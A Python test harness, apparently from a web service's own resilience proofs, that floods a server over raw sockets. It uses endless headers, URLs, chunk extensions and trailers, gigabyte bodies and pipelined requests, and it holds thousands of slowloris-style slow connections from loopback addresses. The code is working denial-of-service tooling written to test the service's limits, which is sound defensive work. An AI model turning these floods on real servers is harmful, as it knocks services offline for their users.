"""What a hostile client sends, over raw sockets: each flood runs in a process of its own until it is ended."""

import os
import selectors
import socket
import sys
import time
from collections.abc import Callable, Iterator

Address = tuple[str, int]

CONNECTIONS = 40
"""Connections of a flood that sends as fast as it can."""

FAST_ADDRESS = "127.0.0.99"
"""Where they come from: not from where `/healthz` is asked, which would be slowed down with them."""

PIECE = 64 * 1024

HEAD = b"GET /healthz HTTP/1.1\r\nhost: x\r\n"
CHUNKED = b"POST /v1/batches HTTP/1.1\r\nhost: x\r\n%stransfer-encoding: chunked\r\n\r\n"
PLAIN = (
    b"POST /v1/batches HTTP/1.1\r\nhost: x\r\n%scontent-type: application/json\r\ncontent-length: %d\r\n\r\n"
)


def endless_head(_key: str) -> Iterator[bytes]:
    """Headers without an end."""
    yield HEAD
    while True:
        yield b"x-pad: " + b"y" * (PIECE // 16) + b"\r\n"


def endless_url(_key: str) -> Iterator[bytes]:
    """A path without an end."""
    yield b"GET /"
    while True:
        yield b"a" * PIECE


def endless_chunk_extension(_key: str) -> Iterator[bytes]:
    """One chunk whose size line never ends."""
    yield CHUNKED % b"" + b"1;"
    while True:
        yield b"e" * PIECE


def small_chunks(key: str) -> Iterator[bytes]:
    """Chunks of one byte, each with an extension, with a valid key: the body is read."""
    yield CHUNKED % (b"content-type: application/json\r\nx-api-key: %s\r\n" % key.encode())
    while True:
        yield (b"1;" + b"e" * 100 + b"\r\n \r\n") * 600


def endless_trailers(_key: str) -> Iterator[bytes]:
    """Short trailers after the last chunk, without an end."""
    yield CHUNKED % b"" + b"0\r\n"
    while True:
        yield b"a: b\r\n" * (PIECE // 6)


def one_endless_trailer(key: str) -> Iterator[bytes]:
    """One trailer whose value never ends, of a request that is read."""
    yield CHUNKED % (b"content-type: application/json\r\nx-api-key: %s\r\n" % key.encode()) + b"0\r\na: "
    while True:
        yield b"b" * PIECE


def large_body_without_key(_key: str) -> Iterator[bytes]:
    """A body of a gigabyte, to a request that is answered 401 at once."""
    yield PLAIN % (b"", 10**9)
    while True:
        yield b" " * PIECE


def large_body_with_key(key: str) -> Iterator[bytes]:
    """The largest body that is taken, to a route whose bodies are small."""
    yield (PLAIN % (b"x-api-key: %s\r\n" % key.encode(), 64 * 2**20)).replace(b"/v1/batches", b"/v1/videos")
    while True:
        yield b" " * PIECE


def pipelined(_key: str) -> Iterator[bytes]:
    """Requests one after another, whose answers are never read."""
    while True:
        yield (HEAD + b"\r\n") * 1500


def empty_lines(_key: str) -> Iterator[bytes]:
    """Line ends, which HTTP lets a server skip before a request."""
    while True:
        yield b"\r\n" * (PIECE // 2)


FAST = {
    "head": endless_head,
    "url": endless_url,
    "chunk extension": endless_chunk_extension,
    "small chunks": small_chunks,
    "trailers": endless_trailers,
    "one trailer": one_endless_trailer,
    "body, no key": large_body_without_key,
    "body, with key": large_body_with_key,
    "pipelined": pipelined,
    "empty lines": empty_lines,
}
"""Floods that send what they can, on `CONNECTIONS` connections, and connect again when they are cut."""

SLOW_CONNECTIONS = 2_000
SLOW_ADDRESSES = 10
"""Loopback addresses that slow clients come from."""

SLOW = {
    "slow heads": (HEAD + b"x-pad: " + b"y" * 7000, b"y"),
    "slow bodies": (PLAIN % (b"", 1000), b" "),
    "silent": (b"", b""),
}
"""Many connections that send little: what each begins with, and what it then sends each second."""


def fast_flood(address: Address, pieces: Callable[[str], Iterator[bytes]], key: str) -> None:
    """Send on `CONNECTIONS` connections until the process is ended."""
    chooser = selectors.DefaultSelector()

    def connect() -> None:
        connection = socket.socket()
        connection.bind((FAST_ADDRESS, 0))
        connection.setblocking(False)
        connection.connect_ex(address)
        chooser.register(connection, selectors.EVENT_WRITE, [pieces(key), b""])

    for _ in range(CONNECTIONS):
        connect()
    while True:
        for chosen, _events in chooser.select(1.0):
            source, left = chosen.data
            connection = chosen.fileobj
            assert isinstance(connection, socket.socket)
            left = left or next(source)
            try:
                chosen.data[1] = left[connection.send(left) :]
            except BlockingIOError:
                chosen.data[1] = left
            except OSError:
                chooser.unregister(connection)
                connection.close()
                time.sleep(0.001)
                connect()


def slow_flood(address: Address, beginning: bytes, drop: bytes) -> None:
    """Hold `SLOW_CONNECTIONS` connections from several addresses, until the process is ended."""
    connections: list[socket.socket | None] = [None] * SLOW_CONNECTIONS
    while True:
        for number, connection in enumerate(connections):
            if connection is None:
                source = f"127.0.0.{2 + number % SLOW_ADDRESSES}"
                connections[number] = _slow_connection(address, source, beginning)
                time.sleep(0.001)  # so many at once would only measure how fast they connect
                continue
            try:
                if drop:
                    connection.send(drop)
                if connection.recv(65536) == b"":
                    raise ConnectionError
            except BlockingIOError:
                continue
            except OSError:
                connection.close()
                connections[number] = None
        time.sleep(0.5)


def _slow_connection(address: Address, source: str, beginning: bytes) -> socket.socket | None:
    connection = socket.socket()
    try:
        connection.bind((source, 0))
        connection.settimeout(2.0)
        connection.connect(address)
        connection.sendall(beginning)
    except OSError:
        connection.close()
        return None
    connection.setblocking(False)
    return connection


def main(name: str, host: str, port: int) -> None:
    """`python -m proofs.attack_floods NAME HOST PORT`; the key is in the environment, as it is a secret."""
    address = (host, port)
    if name in SLOW:
        slow_flood(address, *SLOW[name])
    else:
        fast_flood(address, FAST[name], os.environ.get("ATTACK_KEY", ""))


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2], int(sys.argv[3]))
